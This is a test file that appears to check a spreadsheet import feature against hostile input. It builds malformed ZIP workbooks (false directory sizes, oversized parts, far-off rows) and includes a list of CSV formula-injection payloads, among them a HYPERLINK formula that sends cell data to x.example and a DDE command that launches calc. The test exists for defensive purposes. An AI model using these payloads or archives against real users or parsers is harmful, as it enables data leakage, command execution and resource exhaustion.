import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getT } from '../../../src/i18n/t.ts';
import { COLUMNS_MAX, FILE_MAX_BYTES, LINES_MAX } from '../../../src/model/imports/limits.ts';
import { csvOf } from '../../../src/office/imports/rules/report-csv.ts';
import { lineTitle } from '../../../src/office/imports/screens/Outcome.tsx';
import { whyText } from '../../../src/office/imports/screens/words.ts';
import type { ReportLine } from '../../../src/model/imports/operations.ts';
import { undefused } from '../../../src/lib/text/defused.ts';
import { xlsxStream } from '../../../src/platform/export/xlsx.ts';
import { readTable } from '../../support/read-file.ts';
import { bringFile } from '../../support/import-file.ts';
import { startDesk, type TestDesk } from '../../support/desk.ts';

type Bytes = Uint8Array<ArrayBuffer>;

/** A spreadsheet of our own, with something of it changed. */
async function workbook(change: (parts: Record<string, Uint8Array>) => void = () => undefined): Promise<Bytes> {
  const columns = ['Name', 'Phone'].map((title, at) => ({ title, value: (row: readonly string[]) => row[at] ?? '' }));
  async function* rows() {
    yield ['Anna', '89161234567'];
  }
  const parts = unzipSync(new Uint8Array(await new Response(xlsxStream('Sheet', columns as never, rows() as never)).arrayBuffer()));
  change(parts);
  return new Uint8Array(zipSync(parts));
}
const sheetIn = (parts: Record<string, Uint8Array>): string => Object.keys(parts).find((one) => /sheet\d+\.xml$/.test(one)) ?? '';
/** The same with more rows in its sheet. */
const withRows = (rows: string): Promise<Bytes> =>
  workbook((parts) => {
    const name = sheetIn(parts);
    parts[name] = strToU8(strFromU8(parts[name] ?? new Uint8Array()).replace('</sheetData>', `${rows}</sheetData>`));
  });
/** The same whose directory, and whose sheet's own head, say another length than the sheet has. */
async function lying(said: number, kind: 'size' | 'packed'): Promise<Bytes> {
  const zip = await withRows(Array.from({ length: 5000 }, (_, at) => row(at + 3, `A${at + 3}`)).join(''));
  const view = new DataView(zip.buffer);
  // The end of the directory, its entries, and a file's own head (APPNOTE.TXT 4.3.16, 4.3.12, 4.3.7).
  let entry = view.getUint32(zip.length - 22 + 16, true);
  const lengths = (): readonly number[] => [28, 30, 32].map((at) => view.getUint16(entry + at, true));
  while (!/sheet\d+\.xml$/.test(strFromU8(zip.subarray(entry + 46, entry + 46 + (lengths()[0] ?? 0)))))
    entry += 46 + lengths().reduce((sum, one) => sum + one, 0);
  const head = view.getUint32(entry + 42, true);
  const [there, here] = kind === 'size' ? [24, 22] : [20, 18];
  view.setUint32(entry + there, said, true);
  view.setUint32(head + here, said, true);
  return zip;
}
const row = (place: number, cell: string, value = '1'): string => `<row r="${place}"><c r="${cell}"><v>${value}</v></c></row>`;

/** What was read, and that it took neither time nor memory that others have use for. */
async function readInMeasure(bytes: Bytes): ReturnType<typeof readTable> {
  const [since, before] = [performance.now(), process.memoryUsage().arrayBuffers];
  const read = await readTable(bytes);
  expect(performance.now() - since).toBeLessThan(20_000);
  expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(256 * 1024 * 1024);
  return read;
}

describe('a spreadsheet that is brought', () => {
  it('is read where it is one', async () => {
    expect(await readInMeasure(await workbook())).toMatchObject({ table: { columns: ['Name', 'Phone'], lines: [{ cells: ['Anna', '89161234567'] }] } });
    expect(await readInMeasure(await withRows(row(3, 'A3') + row(60_000, 'B60000')))).toMatchObject({ table: { lines: [{}, { line: 3 }, { line: 60_000 }] } });
  });

  it.each<[string, () => Promise<Bytes>]>([
    ['a row of the number 1,000,000,000', () => withRows(row(1_000_000_000, 'A1000000000'))],
    ['a cell in such a row, which the row does not say', () => withRows(row(3, 'A1000000000'))],
    ['a row just beyond what is read', () => withRows(row(LINES_MAX + 10_001, `A${LINES_MAX + 10_001}`))],
    ['a column beyond all that are read', () => withRows(row(3, 'XFD3'))],
    ['a row whose number is spelled in entities', () => withRows('<row r="&#49;000000000"><c><v>1</v></c></row>')],
    [
      'many sheets with a row far down in each',
      () =>
        workbook((parts) => {
          const far = parts[sheetIn(parts)] ?? new Uint8Array();
          for (let at = 2; at < 9; at++)
            parts[`xl/worksheets/sheet${at}.xml`] = strToU8(strFromU8(far).replace('</sheetData>', `${row(50_000, 'A50000')}</sheetData>`));
        }),
    ],
    ['a directory that says too little', () => lying(100, 'size')],
    ['a directory that says more than anybody has', () => lying(4_000_000_000, 'size')],
    ['a directory that says another length of what is packed', () => lying(5, 'packed')],
    [
      'more parts than any has',
      () => workbook((parts) => Object.assign(parts, Object.fromEntries(Array.from({ length: 2100 }, (_, at) => [`x/${at}`, new Uint8Array(1)])))),
    ],
    ['a part that unpacks into 200 MB', () => workbook((parts) => Object.assign(parts, { 'x/large.bin': new Uint8Array(200 * 1024 * 1024) }))],
  ])('with %s is no file that is read', async (_what, make) => {
    expect(await readInMeasure(await make())).toEqual({ fault: { code: 'zip' } });
  });

  it('of more columns, lines or bytes than are taken is refused by name', async () => {
    const text = (lines: number, columns: number): Bytes =>
      new TextEncoder().encode(Array.from({ length: lines }, () => Array.from({ length: columns }, () => 'x').join(';')).join('\n')) as Bytes;
    // How it is encoded is said all the same.
    const encoding = { encoding: 'utf-8', percent: 100 };
    expect(await readInMeasure(text(2, COLUMNS_MAX + 1))).toEqual({ encoding, fault: { code: 'columns', count: COLUMNS_MAX + 1 } });
    expect(await readInMeasure(text(LINES_MAX + 2, 2))).toEqual({ encoding, fault: { code: 'lines', count: LINES_MAX + 1 } });
    expect(await readInMeasure(new Uint8Array(FILE_MAX_BYTES + 1))).toEqual({ fault: { code: 'size' } });
  });
});

describe('the report of an import', () => {
  let house: TestDesk;
  beforeAll(async () => {
    house = await startDesk();
  });
  afterAll(() => house.stop());

  /** Cells that a spreadsheet would reckon, or hand to another program (OWASP, "CSV injection"). */
  const SLY = [
    '=HYPERLINK("https://x.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '|cmd',
    '\u00A0=1+1',
    '%0A=1',
    '"=1+1',
    ';=1+1',
  ];
  /** A cell of the file as a spreadsheet has it. */
  const cellsIn = (csv: string): readonly string[] => {
    const cells: string[] = [];
    for (const [, quoted, plain] of csv.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^;\r\n]*))(?:;|\r\n|$)/g))
      cells.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    return cells;
  };

  it.each(['all', 'refused'] as const)('as a file of %s has no cell that is a formula, and is brought again as it was', async (only) => {
    const lines = SLY.map((name) => ({ name, phone: 'none', message: name }));
    const brought = await bringFile(house, 'leads', lines);
    await brought.act('check');
    await brought.work();
    await brought.act('run');
    await brought.work();
    const t = getT('en');
    const report = (await brought.report()) as unknown as readonly ReportLine[];
    const shown = only === 'all' ? report : report.filter(({ state }) => state === 'refused');
    expect(shown).toHaveLength(SLY.length);
    const columns = ['name', 'phone', 'message'];
    const rows = shown.map((line) => [String(line.line), t(lineTitle(line)), whyText(t, 'leads', line), ...columns.map((_, at) => line.cells[at] ?? '')]);
    const csv = csvOf([['Line', 'Outcome', 'Reason', ...columns], ...rows]);
    const told = cellsIn(csv);
    expect(told.filter((cell) => /^[\s\u00A0\uFEFF]*[=+@|%＝＋－＠\t\r\n]/.test(cell) || /^-\D/.test(cell))).toEqual([]);
    const again = await readTable(new TextEncoder().encode(csv) as Bytes);
    if (!('table' in again)) throw new Error(JSON.stringify(again));
    expect(again.table.lines.map(({ cells }) => cells[3])).toEqual(shown.map(({ cells }) => undefused(cells[0] ?? '')));
  });
});
